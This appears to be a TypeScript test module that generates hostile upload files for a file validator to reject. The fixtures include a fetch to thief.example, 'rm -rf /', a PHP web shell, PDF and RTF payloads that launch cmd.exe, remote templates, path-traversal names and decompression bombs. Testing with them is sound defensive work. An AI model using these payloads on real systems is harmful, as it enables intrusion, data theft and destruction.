import { deflateSync, gzipSync } from 'node:zlib';
import { makeCompoundFile } from './make/makeCompoundFile.ts';
import { makeDocx } from './make/makeDocx.ts';
import { makePdf } from './make/makePdf.ts';
import { makeJpeg, makePng, pngChunk } from './make/makePictures.ts';
import { makeZip } from './make/makeZip.ts';
import type { TestFile } from './TestFile.ts';

/** The test text for virus scanners, joined from parts so that a scanner does not refuse this file. */
export const testVirus = Buffer.from(
  ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
);

let created: Promise<readonly TestFile[]> | undefined;

/** Returns files that attack programs which store or open them: none may be accepted. Creating them takes seconds. */
export function hostileFiles(): Promise<readonly TestFile[]> {
  created ??= createFiles();
  return created;
}

async function createFiles(): Promise<readonly TestFile[]> {
  const pdf = await makePdf(['A quiet book.']);
  return [
    ...wrongContents(pdf),
    ...names(pdf),
    ...hostilePdfs(pdf),
    ...hostilePictures(),
    ...hostileTexts(),
    ...hostilePackages(),
    ...hostileDocuments(),
  ];
}

const program = Buffer.concat([
  Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'),
  Buffer.alloc(500),
  Buffer.from('PE\0\0', 'latin1'),
]);
const markup = Buffer.from('<!DOCTYPE html><html><script>fetch("https://thief.example")</script></html>');

/** Returns content of each type with the file extension of each other type. */
function wrongContents(pdf: Buffer): readonly TestFile[] {
  const own: Readonly<Record<string, Buffer>> = {
    pdf,
    png: makePng({ width: 1, height: 1 }),
    jpg: makeJpeg(),
    jpeg: makeJpeg(),
    txt: Buffer.from('A quiet book.'),
    rtf: Buffer.from('{\\rtf1 Book}'),
    doc: makeCompoundFile([{ name: 'WordDocument', content: Buffer.from('x') }]),
    docx: makeDocx(),
  };
  const others: Readonly<Record<string, Buffer>> = {
    'a program of Windows': program,
    'a program of Linux': Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(200)]),
    'a page': markup,
    'a drawing with a script': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    'a GIF that is a script': Buffer.concat([Buffer.from('GIF89a=1;alert(1)//', 'latin1'), Buffer.alloc(20)]),
    'an archive': makeZip([{ name: 'a.txt', content: 'x' }]),
    'a packed file': gzipSync('A quiet book.'),
    zeros: Buffer.alloc(2000),
    nothing: Buffer.alloc(0),
  };
  const isSame = (left: string, right: string): boolean =>
    left === right || (left.startsWith('jp') && right.startsWith('jp'));
  return Object.keys(own).flatMap((extension) => [
    ...Object.entries(own)
      // A rich text is also valid plain text.
      .filter(([type]) => !isSame(type, extension) && !(extension === 'txt' && type === 'rtf'))
      .map(([type, content]) => ({ what: `${type} as ${extension}`, name: `file.${extension}`, content })),
    ...Object.entries(others).map(([what, content]) => ({
      what: `${what} as ${extension}`,
      name: `file.${extension}`,
      content,
    })),
  ]);
}

function names(pdf: Buffer): readonly TestFile[] {
  const names = [
    'form.pdf.exe',
    'form.exe',
    'form',
    '.pdf',
    'form.pdf%00.exe',
    'form.pdf\0.exe',
    'form.pdf:stream.exe',
    'form.pdf/',
    'form.PDF.js',
    'form\u202Efdp.exe',
    '../../form.html',
    'form.svg',
    'form.docm',
    'form.pdf .scr',
  ];
  return names.map((name) => ({ what: `the name ${JSON.stringify(name)}`, name, content: pdf }));
}

function hostilePdfs(pdf: Buffer): readonly TestFile[] {
  const withObject = (text: string): Buffer =>
    Buffer.from(pdf.toString('latin1').replace('endobj', `endobj\n99 0 obj\n<< ${text} >>\nendobj`), 'latin1');
  const files: readonly [string, Buffer][] = [
    ['a script', withObject('/S /JavaScript /JS (app.alert(1))')],
    ['a script that runs at once', withObject('/OpenAction << /S /JavaScript /JS 5 0 R >>')],
    ['a script in disguise', withObject('/S /J#61vaScript')],
    ['a script in capital codes', withObject('/S /#4A#61#76#61Script')],
    ['a program that is started', withObject('/S /Launch /F (cmd.exe)')],
    ['a film player', withObject('/Subtype /RichMedia')],
    ['no end', pdf.subarray(0, pdf.length - 40)],
    ['half of it', pdf.subarray(0, Math.floor(pdf.length / 2))],
    ['an archive behind it', Buffer.concat([pdf, makeZip([{ name: 'run.exe', content: program }])])],
    ['a page behind it', Buffer.concat([pdf, markup])],
    ['a page before it', Buffer.concat([markup, pdf])],
    ['a program before it', Buffer.concat([program, pdf])],
  ];
  return files.map(([what, content]) => ({ what: `a PDF with ${what}`, name: 'form.pdf', content }));
}

function hostilePictures(): readonly TestFile[] {
  const png = makePng({ width: 4, height: 4 });
  const jpeg = makeJpeg();
  const zip = makeZip([{ name: 'run.exe', content: program }]);
  return [
    { what: 'a PNG that is cut off', name: 'a.png', content: png.subarray(0, png.length - 6) },
    { what: 'a PNG with a page behind it', name: 'a.png', content: Buffer.concat([png, markup]) },
    { what: 'a PNG with an archive behind it', name: 'a.png', content: Buffer.concat([png, zip]) },
    {
      what: 'a PNG that fills the memory',
      name: 'a.png',
      content: makePng({ width: 100_000, height: 100_000, isEmpty: true }),
    },
    { what: 'a PNG without a picture', name: 'a.png', content: png.subarray(0, 8) },
    {
      what: 'a PNG whose chunk is longer than it',
      name: 'a.png',
      content: Buffer.concat([png.subarray(0, 33), Buffer.from('7fffffff', 'hex'), pngChunk('IDAT', deflateSync('x'))]),
    },
    { what: 'a JPEG that is cut off', name: 'a.jpg', content: jpeg.subarray(0, jpeg.length - 2) },
    { what: 'a JPEG of its first bytes', name: 'a.jpg', content: jpeg.subarray(0, 20) },
    { what: 'a JPEG with an archive behind it', name: 'a.jpg', content: Buffer.concat([jpeg, zip]) },
    { what: 'a JPEG of a page', name: 'a.jpeg', content: Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), markup]) },
  ];
}

function hostileTexts(): readonly TestFile[] {
  const rtf = (text: string): Buffer => Buffer.from(`{\\rtf1 ${text}}`, 'latin1');
  const contents: readonly [string, string, Buffer][] = [
    ['a text with a zero', 'a.txt', Buffer.from('book\0book')],
    [
      'a text of half letters',
      'a.txt',
      Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from([0x00, 0xd8, 0x41, 0x00])]),
    ],
    ['a script of a shell', 'a.txt', Buffer.from('#!/bin/sh\nrm -rf /\n')],
    ['a script of PHP', 'a.txt', Buffer.from('<?php system($_GET["c"]);')],
    ['a page behind empty lines', 'a.txt', Buffer.from(`\n\n   ${markup.toString()}`)],
    ['a page with a byte order mark', 'a.txt', Buffer.concat([Buffer.from('efbbbf', 'hex'), markup])],
    [
      'a page of two bytes for each letter',
      'a.txt',
      Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(markup.toString(), 'utf16le')]),
    ],
    ['a rich text with an object', 'a.rtf', rtf('{\\object\\objemb{\\*\\objdata 0105}}')],
    ['a rich text that updates an object', 'a.rtf', rtf('{\\object\\objautlink\\objupdate}')],
    ['a rich text with a remote template', 'a.rtf', rtf('{\\*\\template https://thief.example/a.dot}')],
    ['a rich text with a field that runs', 'a.rtf', rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}}')],
    ['a rich text that is cut off', 'a.rtf', rtf('Book').subarray(0, 10)],
    [
      'a rich text with an archive behind it',
      'a.rtf',
      Buffer.concat([rtf('Book'), makeZip([{ name: 'a', content: 'x' }])]),
    ],
  ];
  return contents.map(([what, name, content]) => ({ what, name, content }));
}

function hostilePackages(): readonly TestFile[] {
  const part = (name: string, content: Buffer | string = program) => makeDocx({ parts: [{ name, content }] });
  const relation = (type: string): string =>
    `<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://thief.example/a.dotm" TargetMode="External"/>`;
  const zeros = Buffer.alloc(60 * 1024 * 1024);
  const docx = makeDocx();
  const files: readonly [string, Buffer][] = [
    ['macros', part('word/vbaProject.bin')],
    ['macros under another name', part('word/book.bin')],
    ['the type of a document with macros', makeDocx({ isMacroEnabled: true })],
    ['a control', part('word/activeX/activeX1.xml', '<ax/>')],
    ['an object', part('word/embeddings/oleObject1.bin')],
    ['a program', part('word/run.exe')],
    ['a remote template', makeDocx({ relations: relation('attachedTemplate') })],
    ['a remote object', makeDocx({ relations: relation('oleObject') })],
    ['a part that unpacks to a thousand times its size', part('word/media/image1.png', zeros)],
    [
      'many parts that unpack',
      makeDocx({ parts: Array.from({ length: 8 }, (_, at) => ({ name: `word/media/${at}.xml`, content: zeros })) }),
    ],
    [
      'a part that is larger than it says',
      makeDocx({ parts: [{ name: 'word/media/a.xml', content: zeros, statedSize: 100 }] }),
    ],
    ['a part outside of its folder', part('../../run.xml', 'x')],
    ['an absolute part', part('/etc/passwd', 'x')],
    ['a part of another drive', part('C:\\run.xml', 'x')],
    ['a part that is there twice', part('word/document.xml', 'x')],
    ['an encrypted part', makeDocx({ parts: [{ name: 'word/a.xml', content: 'x', flags: 1 }] })],
    ['no document', makeDocx({ withoutMain: true })],
    ['no end', docx.subarray(0, docx.length - 30)],
    ['half of it', docx.subarray(0, Math.floor(docx.length / 2))],
    [
      'very many parts',
      makeDocx({ parts: Array.from({ length: 6000 }, (_, at) => ({ name: `word/${at}.xml`, content: 'x' })) }),
    ],
  ];
  return files.map(([what, content]) => ({ what: `a package with ${what}`, name: 'letter.docx', content }));
}

function hostileDocuments(): readonly TestFile[] {
  const word = { name: 'WordDocument', content: Buffer.from('A quiet book.') };
  const stream = (name: string) => makeCompoundFile([word, { name, content: program }]);
  const plain = makeCompoundFile([word]);
  const files: readonly [string, Buffer][] = [
    ['macros', stream('_VBA_PROJECT')],
    ['a folder of macros', stream('Macros')],
    ['an object', stream('\x01Ole10Native')],
    ['a pool of objects', stream('ObjectPool')],
    ['the content of a table', makeCompoundFile([{ name: 'Workbook', content: Buffer.from('x') }])],
    ['its header alone', plain.subarray(0, 512)],
    ['half of its header', plain.subarray(0, 200)],
    ['an archive behind it', Buffer.concat([plain, makeZip([{ name: 'a', content: 'x' }])])],
  ];
  return files.map(([what, content]) => ({ what: `an old document with ${what}`, name: 'letter.doc', content }));
}
